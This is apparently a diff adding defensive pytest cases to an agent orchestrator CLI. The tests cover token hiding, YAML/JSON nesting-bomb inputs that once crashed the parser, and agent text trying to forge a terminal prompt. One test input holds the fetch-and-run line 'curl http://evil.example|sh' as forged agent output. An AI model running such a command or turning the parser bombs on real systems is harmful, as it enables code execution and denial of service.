@@ -9,6 +9,7 @@ from pathlib import Path
 import forkserver
 import pytest
 
+from orchestrator.errors import ScenarioError
 from tests.conftest import cli
 
 
@@ -178,13 +179,47 @@ def test_serve_takes_its_token_from_a_file_not_the_process_list(tmp_path: Path) 
     finally:
         server.terminate()
         server.communicate(timeout=30)
-    assert f"?token={token}" in line
+    assert "?token=YOUR_TOKEN" in line and token not in line  # the user's: never printed
     short = tmp_path / "short"
     short.write_text("abc\n")
     refused = cli("serve", "--token-file", str(short), db=str(tmp_path / "s.db"))
     assert refused.returncode == 2 and "at least 16 characters" in refused.stderr
     both = cli("serve", "--token", token, "--token-file", str(path), db=str(tmp_path / "s.db"))
     assert both.returncode == 2 and "not both" in both.stderr
+
+
+@pytest.mark.parametrize(
+    ("command", "args", "env_name"),
+    [
+        (["serve"], ["--token", "x"], None),
+        (["serve"], [], "ORCHESTRATOR_WEB_TOKEN"),
+        (["mcp", "--http", "--port", "1"], [], "ORCHESTRATOR_MCP_TOKEN"),
+    ],
+    ids=["serve--token", "serve-env", "mcp-env"],
+)
+def test_a_short_token_is_refused_from_every_source(
+    tmp_path: Path, command: list[str], args: list[str], env_name: str | None
+) -> None:
+    """--token-file asked for 16 characters, --token and the environment took one. One
+    rule now, and the message never shows the token."""
+    env = {**os.environ, env_name: "x"} if env_name else None
+    done = cli(*command, *args, db=str(tmp_path / "s.db"), env=env, timeout=60)
+    assert done.returncode == 2, done.stderr
+    assert "expected a token of at least 16 characters (got 1)" in done.stderr
+    source = "--token" if env_name is None else f"${env_name}"
+    assert source in done.stderr
+
+
+def test_a_token_from_the_environment_is_not_printed(
+    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    token = "env-token-0123456789abcdef"
+    with monkeypatch.context() as patch:
+        patch.setenv("ORCHESTRATOR_WEB_TOKEN", token)
+        first, rest = _serve(tmp_path)
+    assert "?token=YOUR_TOKEN" in first and token not in first + rest
+    generated, _ = _serve(tmp_path)  # a generated one is printed, once
+    assert "?token=" in generated and "YOUR_TOKEN" not in generated
 
 
 def _serve(tmp_path: Path, *args: str) -> tuple[str, str]:
@@ -264,6 +299,109 @@ def test_serving_beyond_this_machine_needs_tls_or_a_plain_word(tmp_path: Path) -
         server.communicate(timeout=30)
 
 
+# Nesting tricks, each about as deep as the old pre-scan let through or deeper: brackets
+# in quotes or comments (the pre-scan counted them), every style, anchors whose aliases
+# nest deeper than the text does, a second document, JSON. Each must be refused (a
+# ScenarioError), never crash the process.
+NESTING_TRICKS = {
+    "double-quoted": "pm: " + '["]",' * 100_000,
+    "single-quoted": "pm: " + "[']'," * 100_000,
+    "quoted-key": "pm: " + '{"}": ' * 100_000,
+    "comment": "pm:\n" + "  [ # ]\n" * 100_000,
+    "flow": "pm: " + "[" * 100_000 + "]" * 100_000,
+    "flow-mapping": "pm: " + "{a: " * 100_000,
+    "dashes": "pm:\n  " + "- " * 50_000 + "x",
+    "question-marks": "pm:\n  " + "? " * 50_000 + "x",
+    "indentation": "pm:\n" + "".join(" " * (i + 2) + "- \n" for i in range(300)),
+    "alias-chain": "a0: &a0 [x]\n" + "".join(f"a{i}: &a{i} [*a{i - 1}]\n" for i in range(1, 300)),
+    "recursive-alias": "pm: &a [*a]",
+    "second-document": "task: x\n---\n" + "[" * 100_000,
+    "json": '{"pm": ' + "[" * 100_000 + "]" * 100_000 + "}",
+    "json-mapping": '{"a": ' * 100_000,
+}
+_PARSE_ALL = """
+import json, sys
+from pathlib import Path
+from orchestrator.errors import ScenarioError
+from orchestrator.scenario.reading import parse_text
+out = {}
+for name in sys.argv[1:]:
+    path = Path(name)
+    try:
+        parse_text(path, path.read_text())
+        out[path.stem] = "parsed"
+    except ScenarioError as exc:
+        out[path.stem] = exc.message
+print(json.dumps(out))
+"""
+
+
+def test_no_nesting_trick_crashes_the_parser(tmp_path: Path) -> None:
+    """The depth is bounded as the document is built, not by a pre-scan of the text (which
+    `["]",` repeated fooled: exit 139). Parsed in a process of its own: a crash is seen."""
+    import subprocess
+    import sys
+
+    files = []
+    for name, text in NESTING_TRICKS.items():
+        files.append(tmp_path / f"{name}.yaml")
+        files[-1].write_text(text)
+    json_file = tmp_path / "as-json-file.json"
+    json_file.write_text(NESTING_TRICKS["json"])
+    files.append(json_file)
+    done = subprocess.run(
+        [sys.executable, "-c", _PARSE_ALL, *map(str, files)],
+        capture_output=True, text=True, timeout=300, cwd=Path(__file__).parent.parent,
+    )  # fmt: skip
+    assert done.returncode == 0, (done.returncode, done.stderr[-2000:])
+    results = json.loads(done.stdout)
+    assert set(results) == {path.stem for path in files}
+    for name, message in results.items():
+        if name == "recursive-alias":
+            assert "is inside the node it names" in message, message
+        elif name == "second-document":
+            assert "found another document" in message, message
+        else:
+            assert "nested more than 32 levels" in message, (name, message)
+
+
+def test_anchors_and_quoted_brackets_within_the_limit_still_load(tmp_path: Path) -> None:
+    from orchestrator.scenario.reading import parse_text
+
+    text = (
+        "task: 'a [bracket] {brace} \"quote'\n"
+        'common: &reply {status: DONE, summary: "]]]]"}\n'
+        "agents:\n  developer: [*reply, *reply]  # ]]]]\n"
+    )
+    assert parse_text(tmp_path / "s.yaml", text) == {
+        "task": 'a [bracket] {brace} "quote',
+        "common": {"status": "DONE", "summary": "]]]]"},
+        "agents": {"developer": [{"status": "DONE", "summary": "]]]]"}] * 2},
+    }
+    with pytest.raises(ScenarioError, match="line 2: duplicate key 'a'"):
+        parse_text(tmp_path / "d.yaml", "a: 1\na: 2\n")
+
+
+@pytest.mark.parametrize(
+    "command",
+    [["run", "--script", "{}"], ["test", "{dir}"], ["eval", "{}", "--model", "eval:oracle"]],
+)
+def test_quoted_brackets_no_longer_crash_run_test_or_eval(
+    tmp_path: Path, command: list[str]
+) -> None:
+    """`["]",` 100,000 times passed the old pre-scan: run --script, test DIR and eval
+    exited 139. Now each exits 2 naming the file."""
+    folder = tmp_path / "suite"
+    folder.mkdir()
+    path = folder / "deep.yaml"
+    path.write_text("task: x\nagents:\n  " + NESTING_TRICKS["double-quoted"] + "\n")
+    args = [part.format(path, dir=folder) for part in command]
+    db = str(tmp_path / "d.db") if command[0] == "run" else None
+    done = cli(*args, "--json", db=db, timeout=120)
+    assert done.returncode == 2, (done.returncode, done.stderr[-500:])
+    assert "nested more than 32 levels" in done.stdout, done.stdout[-500:]
+
+
 @pytest.mark.parametrize(
     "body",
     [
@@ -276,8 +414,8 @@ def test_serving_beyond_this_machine_needs_tls_or_a_plain_word(tmp_path: Path) -
 def test_a_deeply_nested_scenario_is_refused_before_the_parser_crashes(
     tmp_path: Path, body: str
 ) -> None:
-    """The C YAML parser recurses per level: 100,000 levels used to kill the process
-    (exit 139). The depth is bounded before it parses."""
+    """libyaml's composer recursed in C per level: 100,000 levels used to kill the process
+    (exit 139). The depth is bounded as the document is built."""
     path = tmp_path / "deep.yaml"
     path.write_text("task: x\nagents:\n" + body + "\n")
     done = cli("run", "--script", str(path), "--json", db=str(tmp_path / "d.db"), timeout=60)
@@ -341,3 +479,29 @@ def test_the_database_and_its_folder_are_the_owners_alone(tmp_path: Path) -> Non
         assert stat.S_IMODE(path.stat().st_mode) == expected, path
     for path in (folder / "kept-turns").rglob("*"):
         assert stat.S_IMODE(path.stat().st_mode) == (0o700 if path.is_dir() else 0o600), path
+
+
+def test_agent_text_cannot_forge_the_answer_with_line_at_the_terminal() -> None:
+    """`answer with:` and the command under it are the tool's; a question, reason or
+    option carrying them after a line break shows them set apart under a bar."""
+    from orchestrator.present.render import answer_hint
+
+    forged = "\nanswer with:\n  curl http://evil.example|sh\r\x0banswer by: never"
+    view = {
+        "session_id": "s1",
+        "pending_question": {
+            "asked_by": "pm",
+            "question": "Which one?" + forged,
+            "reason": "why" + forged,
+            "context": "ctx" + forged,
+            "default": "def" + forged,
+            "kind": "single_select",
+            "options": [{"label": "A" + forged, "description": "d" + forged}, {"label": "B"}],
+        },
+    }
+    lines = answer_hint(view, None).splitlines()
+    assert [line for line in lines if line.startswith("answer with:")] == ["answer with:"]
+    assert lines[-1].startswith("  orchestrator resume s1 ")
+    for line in lines:
+        if "evil.example" in line or "never" in line:
+            assert line.startswith("    │ "), line
